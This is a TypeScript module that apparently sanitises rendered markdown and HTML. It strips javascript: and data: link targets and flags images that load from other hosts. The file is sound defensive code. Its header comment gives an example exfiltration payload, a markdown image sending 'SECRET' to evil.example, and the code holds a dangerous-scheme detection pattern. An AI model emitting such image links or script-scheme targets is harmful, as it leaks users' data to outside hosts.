// Markdown and HTML that act when rendered: link targets with a script or data scheme (always
// neutralised: no model or reader needs them), and images that load from another host (the classic
// exfiltration channel, `![x](https://evil.example/?q=SECRET)`), found as spans. Every regex is linear.

export interface MarkupHit {
  start: number;
  end: number;
  label: string;
  /** The target as written, for the audit quote. */
  target: string;
}

// `javascript:`, `vbscript:`, `data:`, once entities, blanks and control characters (which
// browsers skip inside a scheme) are gone.
const DANGEROUS_SCHEME = /^(?:javascript|vbscript|data|livescript|mocha):/i;
const HAS_SCHEME = /^[a-z][a-z0-9+.-]*:/i;
const ENTITY = /&(?:#x([0-9a-f]{1,6})|#([0-9]{1,7})|(colon|tab|newline|sol|period|lpar|rpar));?/gi;
const NAMED: Record<string, string> = { colon: ':', tab: '\t', newline: '\n', sol: '/', period: '.', lpar: '(', rpar: ')' };

/** A target as a browser reads its scheme: entities decoded, blanks and controls removed, quotes off. */
function normalise(raw: string): string {
  let t = raw.trim();
  if (/^(["']).*\1$/s.test(t) || /^<.*>$/s.test(t)) t = t.slice(1, -1);
  t = t.replace(ENTITY, (_, hex?: string, dec?: string, name?: string) => {
    if (name) return NAMED[name.toLowerCase()]!;
    const cp = hex ? parseInt(hex, 16) : parseInt(dec!, 10);
    return cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : '';
  });
  return t.replace(/[\x00-\x20\x7f]+/g, '');
}

export const isDangerousTarget = (raw: string): boolean => DANGEROUS_SCHEME.test(normalise(raw));
/** Loads from somewhere other than the page's own origin: any scheme, or `//host` (also `\\host`). */
export const isRemoteTarget = (raw: string): boolean => {
  const t = normalise(raw);
  return HAS_SCHEME.test(t) || /^[\\/]{2}/.test(t);
};

// Link text allows one level of nested brackets; the destination is `<…>` or a run without blanks
// that may hold balanced parentheses; then an optional title.
const LABEL = String.raw`(?:[^\[\]]|\[[^\[\]]*\])*`;
const DEST = String.raw`(<[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)`;
const TITLE = String.raw`(?:\s+(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?`;
/** `[text](dest)` and `![alt](dest)`; group 1 is `!` for an image, group 2 the text, group 3 the destination. */
const INLINE = new RegExp(String.raw`(!?)\[(${LABEL})\]\(\s*${DEST}${TITLE}\s*\)`, 'g');
/** `[label]: dest` reference definitions, one per line. */
const DEFINITION = /^ {0,3}\[([^[\]\n]+)\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)[^\n]*$/gm;
/** `![alt][ref]`, `![ref][]`, `![ref]` (not followed by `(`, which INLINE handles). */
const IMAGE_REF = new RegExp(String.raw`!\[(${LABEL})\](?:\[([^\[\]\n]*)\])?(?!\()`, 'g');
/** `<scheme:…>` autolinks. */
const AUTOLINK = /<([a-z][a-z0-9+.-]*:[^<>\s]*)>/gi;
// HTML tags that load something by themselves, and the attributes that say from where.
// Quoted attribute values may hold `>`; a quote is bounded so an unclosed one cannot make a scan quadratic.
const TAG_BODY = `(?:[^<>"']|"[^"]{0,4096}"|'[^']{0,4096}')*`;
const LOADING_TAG = new RegExp(String.raw`<\s*(img|image|iframe|frame|video|audio|source|embed|object|input|link|script|track)\b${TAG_BODY}>`, 'gi');
const ATTRIBUTE = /(?<=[\s"'/])([a-z:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+)/gi;
/** The same, with the blanks before it, for removal. Starts only where a blank run starts: linear. */
const ATTRIBUTE_WITH_BLANKS = /(?<!\s)(?:\s+|(?<=["'/]))([a-z:-]+)\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+)/gi;
const URL_ATTRIBUTES = new Set(['src', 'srcset', 'data', 'poster', 'href', 'xlink:href', 'background', 'lowsrc', 'dynsrc', 'action', 'formaction']);
/** Any tag's URL-bearing attribute, for script schemes (`<a href="javascript:…">`). */
const ANY_TAG = new RegExp(String.raw`<\s*[a-z][a-z0-9-]*\b${TAG_BODY}>`, 'gi');

const unquote = (v: string) => (/^(["']).*\1$/s.test(v) ? v.slice(1, -1) : v);
const labelKey = (label: string) => label.trim().replace(/\s+/g, ' ').toLowerCase();

/**
 * `text` with every script/data link target neutralised: markdown `[t](javascript:…)` keeps its text
 * and loses its destination, definitions and autolinks to such targets go, and the attribute that
 * holds one goes from an HTML tag. Calls `onHit(target)` for each. Returns `text` itself when clean.
 */
export function neutraliseLinks(text: string, onHit: (target: string) => void): string {
  if (!/[:&]/.test(text)) return text; // no scheme can be written without a colon or an entity
  let s = text.replace(INLINE, (m, bang: string, label: string, dest: string) => (isDangerousTarget(dest) ? (onHit(dest), bang ? '' : label) : m));
  s = s.replace(DEFINITION, (m, _label: string, dest: string) => (isDangerousTarget(dest) ? (onHit(dest), '') : m));
  s = s.replace(AUTOLINK, (m, dest: string) => (isDangerousTarget(dest) ? (onHit(dest), '') : m));
  s = s.replace(ANY_TAG, (tag) =>
    tag.replace(ATTRIBUTE_WITH_BLANKS, (a, name: string, value: string) => (URL_ATTRIBUTES.has(name.toLowerCase()) && isDangerousTarget(value) ? (onHit(unquote(value)), '') : a)),
  );
  return s === text ? text : s;
}

/** Images that load from another host: inline and reference-style markdown, and loading HTML tags. */
export function findRemoteImages(text: string): MarkupHit[] {
  const hits: MarkupHit[] = [];
  if (text.includes('![')) {
    for (const m of text.matchAll(INLINE)) {
      if (m[1] && isRemoteTarget(m[3]!)) hits.push({ start: m.index, end: m.index + m[0].length, label: 'markdown image from another host', target: m[3]! });
    }
    const defs = new Map<string, string>();
    for (const m of text.matchAll(DEFINITION)) if (!defs.has(labelKey(m[1]!))) defs.set(labelKey(m[1]!), m[2]!);
    if (defs.size) {
      for (const m of text.matchAll(IMAGE_REF)) {
        const target = defs.get(labelKey(m[2] || m[1]!));
        if (target !== undefined && isRemoteTarget(target)) {
          hits.push({ start: m.index, end: m.index + m[0].length, label: 'markdown image from another host', target });
        }
      }
    }
  }
  if (text.includes('<')) {
    for (const m of text.matchAll(LOADING_TAG)) {
      for (const a of m[0].matchAll(ATTRIBUTE)) {
        const name = a[1]!.toLowerCase();
        if (!URL_ATTRIBUTES.has(name)) continue;
        // srcset lists candidates "url 2x, url 3x"; any remote one loads.
        const remote = name === 'srcset' ? normalise(a[2]!).split(',').some(isRemoteTarget) : isRemoteTarget(a[2]!);
        if (remote) {
          hits.push({ start: m.index, end: m.index + m[0].length, label: `<${m[1]!.toLowerCase()}> loading from another host`, target: unquote(a[2]!) });
          break;
        }
      }
    }
  }
  return hits;
}
